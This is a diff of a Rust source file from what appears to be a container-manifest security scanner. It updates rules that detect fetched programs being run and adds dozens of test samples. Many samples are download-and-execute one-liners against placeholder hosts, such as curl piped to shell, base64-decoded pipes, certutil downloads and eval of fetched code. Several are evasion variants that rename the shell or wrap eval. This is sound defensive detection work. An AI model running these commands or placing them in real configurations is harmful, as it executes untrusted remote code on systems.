@@ -1,14 +1,17 @@
 //! Programs and scripts that come over the network.
 
+use super::checksum::is_verified;
 use super::places::is_temporary;
-use super::words::{cluster, has, operands, option, words};
-use super::{COMMAND, Facts, Rule, Sample, Severity, each_match};
+use super::url::{Reach, target};
+use super::words::{cluster, words};
+use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
 use crate::detect::catalog::{Exposure, Remedy, Step, links};
+use crate::detect::code;
 use crate::detect::findings::Collector;
-use crate::detect::{code, derive};
+pub(in crate::detect) use crate::detect::flow::is_downloader;
+use crate::detect::flow::{At, Kind, Ran, Reached, fetches, prints_fetched};
+use crate::normalize::Invocation;
 use crate::normalize::exec::is_shell;
-use crate::normalize::path::canonical_cow;
-use crate::normalize::{Execution, Invocation};
 
 pub(super) static RULES: &[Rule] = &[
     Rule {
@@ -40,7 +43,7 @@ pub(super) static RULES: &[Rule] = &[
         points: 45,
         techniques: &["T1105", "T1059.004"],
         references: &[links::IMAGES, links::SUPPLY_CHAIN],
-        check: |facts, found| runs_input_of(facts, found, &|call| is_downloader(call) && prints(call)),
+        check: |facts, found| runs_input_of(facts, found, &prints_fetched),
         samples: &[
             Sample::Hit(
                 45,
@@ -89,6 +92,99 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(
                 45,
                 "containers: [{name: a, command: [sh, -c, 'echo Y3VybCB4fHNo | base64 -d | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/s https://x.test/s; cat /tmp/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'ssh u@192.0.2.10 cat /p.sh | bash']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'aws s3 cp s3://bucket/p.sh - | bash']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'dig +short TXT p.example.test | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'git archive --remote=git://192.0.2.10/r HEAD run.sh | tar xO | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'echo http://192.0.2.10/s | xargs curl -s | xargs -0 sh -c']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'r() { sh; }; curl -s http://192.0.2.10/s | r']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'x() { eval \"$1\"; }; x \"$(curl -s http://192.0.2.10/s)\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'mapfile -t a < <(curl -s http://192.0.2.10/s); eval \"${a[@]}\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'read -r -d E x < <(curl -s http://192.0.2.10/s); eval \"$x\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | fish']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | tcsh -f']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /tmp/log; curl -s http://192.0.2.10/s | /tmp/log']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'ln -s /bin/bash /tmp/b; curl -s http://192.0.2.10/s | /tmp/b']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cp $(command -v curl) /tmp/a; /tmp/a -s http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl-8.5.0 -s http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, '/tmp/bb wget -qO- http://192.0.2.10/s | /tmp/bb sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /rescue/sh; curl -s http://svc/x | /app/log']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, '[ -x \"$(command -v curl)\" ] && \"$(which curl)\" -s http://svc/health']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s https://x.test/v > /tmp/v; cat /tmp/v; echo id | sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'dig +short TXT p.example.test | grep spf']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'aws s3 cp s3://bucket/dump.gz - | gunzip | psql shop']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'ssh u@host uptime; sh /app/run.sh']}]"),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | xargs -n1 sh -c \"process $0\"']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'log() { tee -a /var/log/x; }; curl -s http://svc/x | log; sh /app/run.sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [bash, -c, 'read -r n < <(curl -s http://svc/n); bash -c \"process $n\"']}]",
             ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | jq .status']}]",
@@ -143,19 +239,7 @@ pub(super) static RULES: &[Rule] = &[
         points: 45,
         techniques: &["T1105"],
         references: &[links::IMAGES, links::SUPPLY_CHAIN],
-        check: |facts, found| {
-            for run in &facts.runs {
-                let code =
-                    run.invocations().find(|(_, call)| code::text(call).is_some_and(code::runs_fetched));
-                if let Some((at, _)) = code {
-                    found.hit(Some(&run.container.name), run.path(), &run.show(at));
-                } else if let Some((at, verified)) = runs_written_file(&run.execution, &is_downloader) {
-                    let (severity, points) =
-                        if verified { (Severity::Medium, 30) } else { (Severity::High, 45) };
-                    found.hit_as(severity, points, Some(&run.container.name), run.path(), &run.show(at));
-                }
-            }
-        },
+        check: downloaded_programs,
         samples: &[
             Sample::Hit(
                 45,
@@ -187,11 +271,119 @@ pub(super) static RULES: &[Rule] = &[
             ),
             Sample::Hit(
                 30,
-                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]",
+                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  t\" | sha256sum -c && chmod +x t && ./t']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/a http://192.0.2.10/a; tee /tmp/b < /tmp/a >/dev/null; chmod +x /tmp/b; /tmp/b']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s | tee /tmp/q > /dev/null; sh /tmp/q']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/1 https://x.test/1; curl -so /tmp/2 https://x.test/2; cat /tmp/1 /tmp/2 > /tmp/3; /tmp/3']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/a.gz https://x.test/a.gz; gunzip /tmp/a.gz; /tmp/a']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/e https://x.test/e; openssl enc -d -aes-256-cbc -k x -in /tmp/e -out /tmp/d; /tmp/d']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'scp u@192.0.2.10:x /tmp/x; /tmp/x']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cd /tmp; tftp -g -r mips 192.0.2.20; ./mips']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/b.tgz | tar xz -C /tmp; cd /tmp/b && ./start.sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; echo ok > y; sha256sum y > s; sha256sum -c s; ./t']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; curl -so t.sum https://x.test/t.sum; sha256sum -c t.sum; ./t']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; gpg --verify other.sig other; ./t']}]",
             ),
             Sample::Hit(
                 30,
-                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
+                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; gpg --verify t.sig t && ./t']}]",
+            ),
+            Sample::Hit(
+                30,
+                "containers: [{name: a, command: [sh, -c, 'curl -so t https://x.test/t; echo \"9f86d081884c7d659a2feaa0c55ad015  t\" > s; md5sum -c s && ./t']}]",
+            ),
+            Sample::Hit(
+                30,
+                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /src/b; cd /src/b; ./build.sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /tmp/b; bash /tmp/b/install.sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /work/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /work}]}]\ncontainers: [{name: a, command: [/x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/x http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /tmp/x']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'eval(get(\"http://192.0.2.10/b\"))']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [ruby, -ropen-uri, -e, 'eval URI.open(\"http://192.0.2.10/b\").read']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [node, -e, 'fetch(\"http://192.0.2.10/b\").then(r=>r.text()).then(eval)']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [cmd, /c, 'certutil -urlcache -split -f http://192.0.2.10/a.exe C:\\Temp\\a.exe & C:\\Temp\\a.exe']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'print get(\"http://svc/x\")']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [cmd, /c, 'certutil -hashfile C:\\app\\a.exe & C:\\app\\b.exe']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -so /data/x.csv http://192.0.2.10/s; /lib64/ld-linux-x86-64.so.2 /app/run /data/x.csv']}]",
+            ),
+            Sample::Miss(
+                "volumes: [{name: w, emptyDir: {}}]\ninitContainers: [{name: i, command: [curl, -sSLo, /work/agent, 'http://192.0.2.90/agent'], volumeMounts: [{name: w, mountPath: /work}]}]\ncontainers: [{name: a, command: [/app/run, /x/agent], volumeMounts: [{name: w, mountPath: /x}]}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -so /data/a.gz https://x.test/a.gz; gunzip /data/a.gz; /app/import /data/a']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s https://x.test/v > /tmp/v; echo \"deploy $(cat /tmp/v)\" > /tmp/run.sh; sh /tmp/run.sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'git clone https://git.example.test/a/b /src/b; cd /src/b; make test']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'scp /app/run u@backup:/app/run; /app/run']}]",
             ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]",
@@ -236,53 +428,26 @@ pub(super) static RULES: &[Rule] = &[
     },
 ];
 
-/// Command-line tools that fetch.
-pub(in crate::detect) fn is_downloader(invocation: &Invocation) -> bool {
-    matches!(
-        invocation.program.as_str(),
-        "curl"
-            | "wget"
-            | "wget2"
-            | "aria2c"
-            | "axel"
-            | "fetch"
-            | "lwp-download"
-            | "lwp-request"
-            | "GET"
-            | "lynx"
-            | "ftpget"
-            | "tftp"
-            | "http"
-            | "https"
-            | "xh"
-    )
-}
-
-/// Whether what is fetched comes out on standard output. `until $(curl -o /dev/null --head …)` is an idiom.
-fn prints(invocation: &Invocation) -> bool {
-    let only_head = words(invocation)
-        .any(|word| word == "--head" || cluster(word).is_some_and(|flags| flags.contains('I')));
-    let to_file = |file: &str| !matches!(file, "-" | "/dev/stdout");
-    let named = option(invocation, &["-o", "--output", "-O", "--output-document"])
-        .filter(|_| invocation.program != "curl" || !has(invocation, &["-O"]));
-    !only_head && !named.is_some_and(to_file)
-}
-
 /// Hits for everything that runs the output of a source.
 pub(super) fn runs_input_of(
     facts: &Facts<'_>,
     found: &mut Collector<'_>,
     is_source: &impl Fn(&Invocation) -> bool,
 ) {
-    for run in &facts.runs {
-        let fed = run.fed(is_source);
-        let sink = run
-            .invocations()
-            .find(|(at, invocation)| fed.get(*at) == Some(&true) && runs_its_input(invocation));
-        if let Some((at, _)) = sink {
-            found.hit(Some(&run.container.name), run.path(), &run.show_flow(at, is_source));
+    let reached = facts.flow.reach(&facts.runs, |_, call| is_source(call), Kind::Program);
+    for (number, run) in facts.runs.iter().enumerate() {
+        let mut sinks = run.invocations().filter(|(_, call)| runs_its_input(call));
+        let sink = sinks.find_map(|(at, _)| Some((at, reached.source_of(number, at)?)));
+        if let Some((at, source)) = sink {
+            found.hit(Some(&run.container.name), run.path(), &show(facts, source, (number, at)));
         }
     }
+}
+
+/// Evidence for what goes from one invocation to another.
+pub(super) fn show(facts: &Facts<'_>, source: At, to: At) -> String {
+    let text = |(run, at): At| facts.runs.get(run).map(|run| run.show(at)).unwrap_or_default();
+    if source == to { text(to) } else { format!("{} | {}", text(source), text(to)) }
 }
 
 /// Takes a program from its standard input or its words and runs it: a shell or an interpreter without a
@@ -312,8 +477,13 @@ fn runs_its_input(invocation: &Invocation) -> bool {
         words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
     if is_shell(program) {
         let inline = words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('c')));
+        // `xargs sh -c` puts what it reads there.
+        let by_xargs = invocation.prefixes.iter().any(|prefix| prefix == "xargs");
         return if inline {
-            operand.is_some_and(|word| begins(&word.text) || word.disguised)
+            match operand {
+                Some(word) => begins(&word.text) || word.disguised || by_xargs && is_placeholder(&word.text),
+                None => by_xargs,
+            }
         } else {
             from_input || reads
         };
@@ -328,136 +498,50 @@ fn runs_its_input(invocation: &Invocation) -> bool {
     }
 }
 
-/// The first invocation that runs a file which a source wrote, and whether a checksum was verified in between.
-pub(super) fn runs_written_file(
-    execution: &Execution,
-    is_source: &impl Fn(&Invocation) -> bool,
-) -> Option<(usize, bool)> {
-    let mut files: Vec<&str> = Vec::new();
-    let mut fetched = false;
-    let (mut verified, mut unpacked) = (false, false);
-    for (at, invocation) in execution.commands.iter().enumerate() {
-        if is_source(invocation) {
-            files.extend(written_files(invocation));
-            fetched = true;
-            // Bounds the work: a script with more downloads than this is hit by the first ones.
-            files.truncate(64);
+/// What usually stands for a line that `xargs -I` reads, with nothing before it.
+fn is_placeholder(text: &str) -> bool {
+    ["{}", "%", "@@", "_"].iter().any(|sign| text.trim_start().starts_with(sign))
+}
+
+/// Hits for programs that are stored and run.
+fn downloaded_programs(facts: &Facts<'_>, found: &mut Collector<'_>) {
+    let reached = facts.flow.reach(&facts.runs, |_, call| fetches(call), Kind::Program);
+    for (number, run) in facts.runs.iter().enumerate() {
+        let container = Some(run.container.name.as_str());
+        let code = run.invocations().find(|(_, call)| code::text(call).is_some_and(code::runs_fetched));
+        if let Some((at, _)) = code {
+            found.hit(container, run.path(), &run.show(at));
             continue;
         }
-        if matches!(invocation.program.as_str(), "tar" | "bsdtar" | "unzip" | "7z" | "cpio") {
-            unpacked |= fetched;
-        }
-        // An archive has many files: one that is run from a directory for temporary files is likely of it.
-        if unpacked && is_temporary(&invocation.path) {
-            return Some((at, true));
-        }
-        if files.is_empty() {
-            continue;
-        }
-        if is_checksum(invocation) {
-            verified = true;
-        } else if let Some(moved) = moved_file(invocation, &files).filter(|_| files.len() < 128) {
-            files.push(moved);
-        } else if runs_one_of(invocation, &files) {
-            return Some((at, verified));
-        }
-    }
-    None
-}
-
-/// Whether a command compares what was fetched with something: `gpg --version` and `sha256sum FILE` do not.
-fn is_checksum(invocation: &Invocation) -> bool {
-    let has = |options: &[&str]| words(invocation).any(|word| options.contains(&word));
-    match invocation.program.as_str() {
-        "sha256sum" | "sha512sum" | "sha1sum" | "shasum" | "md5sum" | "b2sum" => {
-            has(&["-c", "--check", "-sc", "-wc"])
-        }
-        "gpg" | "gpg2" => has(&["--verify"]),
-        "gpgv" => true,
-        "cosign" => has(&["verify", "verify-blob", "verify-attestation", "verify-blob-attestation"]),
-        "minisign" | "signify" => {
-            words(invocation).any(|word| word.starts_with("-V") || word.starts_with("-qV"))
-        }
-        _ => false,
-    }
-}
-
-/// `mv FILE TARGET`, `cp FILE TARGET`, `install … FILE TARGET`: the target, if the file is one of those.
-fn moved_file<'a>(invocation: &'a Invocation, files: &[&str]) -> Option<&'a str> {
-    if !matches!(invocation.program.as_str(), "mv" | "cp" | "ln" | "install") {
-        return None;
-    }
-    let moves = words(invocation).take(64).any(|word| files.iter().any(|file| same_file(file, word)));
-    let target = words(invocation).next_back()?;
-    (moves && !files.iter().any(|file| same_file(file, target))).then_some(target)
-}
-
-fn runs_one_of(invocation: &Invocation, files: &[&str]) -> bool {
-    let is_file = |text: &str| !text.is_empty() && files.iter().any(|file| same_file(file, text));
-    let takes_script = is_shell(&invocation.program)
-        || code::language(&invocation.program).is_some()
-        || matches!(invocation.program.as_str(), "source" | ".");
-    is_file(&invocation.path) || takes_script && operands(invocation).next().is_some_and(is_file)
-}
-
-/// Whether two spellings name the same file: a leading `./` aside, and a bare name fits any directory.
-fn same_file(written: &str, run: &str) -> bool {
-    // Nothing longer is a path; each word is compared with many files.
-    if written.len() > 4096 || run.len() > 4096 {
-        return false;
-    }
-    let (written, run) = (canonical_cow(written), canonical_cow(run));
-    let (written, run) = (written.trim_start_matches("./"), run.trim_start_matches("./"));
-    written == run
-        || !written.contains('/') && run.strip_suffix(written).is_some_and(|front| front.ends_with('/'))
-}
-
-/// The names of the files that a tool writes.
-pub(super) fn written_files(invocation: &Invocation) -> Vec<&str> {
-    let all: Vec<&str> = words(invocation).collect();
-    let mut files = Vec::new();
-    let program = invocation.program.as_str();
-    let is_curl = program == "curl";
-    for (index, word) in all.iter().enumerate() {
-        let next = || all.get(index + 1).copied();
-        let value = match *word {
-            "-O" if is_curl => None,
-            "-o" | "--output" | "--output-document" | "-O" | "--out" => next(),
-            _ if word.starts_with("--output=") || word.starts_with("--output-document=") => {
-                word.split_once('=').map(|(_, file)| file)
+        // The heaviest, and of those the first.
+        let mut heaviest: Option<(At, At, Weight)> = None;
+        for program in reached.ran(number).take(MAX_PROGRAMS) {
+            let weight = weigh(facts, &reached, &program);
+            if heaviest.is_none_or(|(_, _, known)| known.1 < weight.1) {
+                heaviest = Some((program.source, program.at, weight));
             }
-            // Clusters with the flag last: -sSLo FILE, -qO FILE; or with the value attached: -oFILE.
-            flags if is_curl && cluster(flags).is_some() && flags.ends_with('o') => next(),
-            flags if program == "wget" && cluster(flags).is_some() && flags.ends_with('O') => next(),
-            flags if is_curl && flags.starts_with("-o") && flags.len() > 2 => flags.get(2..),
-            flags if program == "wget" && flags.starts_with("-O") && flags.len() > 2 => flags.get(2..),
-            _ => None,
-        };
-        files.extend(value);
+        }
+        if let Some((source, at, (severity, points))) = heaviest {
+            let source = if source.0 == number { at } else { source };
+            found.hit_as(severity, points, container, run.path(), &show(facts, source, at));
+        }
     }
-    let redirects = invocation.redirects.iter().filter(|redirect| redirect.takes_stdout());
-    files.extend(redirects.map(|redirect| redirect.target.text.as_str()));
-    // wget FILE-URL and curl -O name the file after the URL.
-    let by_url = is_downloader(invocation)
-        && (!is_curl
-            || all.iter().any(|word| {
-                *word == "--remote-name" || cluster(word).is_some_and(|flags| flags.contains('O'))
-            }));
-    if files.is_empty() && by_url {
-        files.extend(
-            all.iter()
-                .filter(|word| word.contains("://") || word.contains('.') && word.contains('/'))
-                .filter_map(|url| {
-                    let path = url.split(['?', '#']).next().unwrap_or(url);
-                    path.rsplit('/').next().filter(|name| !name.is_empty())
-                }),
-        );
-    }
-    files.retain(|file| !matches!(*file, "-" | "" | "/dev/null" | "/dev/stdout" | "/dev/stderr"));
-    files
 }
 
-/// Whether something decodes, for the rules about hidden text.
-pub(super) fn is_decoder(invocation: &Invocation) -> bool {
-    derive::is_decoder(invocation)
+/// What a program weighs that was fetched: less where it was verified, or where it is one of many files that came
+/// from a named place and stay together, as sources do that are built.
+fn weigh(facts: &Facts<'_>, reached: &Reached<'_>, program: &Ran) -> Weight {
+    let invocation = |(run, at): At| facts.runs.get(run).and_then(|run| run.invocation(at));
+    let is_odd = |word: &str| {
+        word.contains("://")
+            && target(word).is_some_and(|target| matches!(target.reach(), Reach::Drop | Reach::Address))
+    };
+    let from_odd = invocation(program.source).is_some_and(|source| words(source).any(is_odd));
+    let packed = program.packed && !from_odd && !is_temporary(&program.file);
+    if packed || is_verified(facts, reached, program.source) { LESS } else { FULL }
 }
+
+const FULL: Weight = (Severity::High, 45);
+const LESS: Weight = (Severity::Medium, 30);
+/// Programs of one run that are looked at.
+const MAX_PROGRAMS: usize = 64;
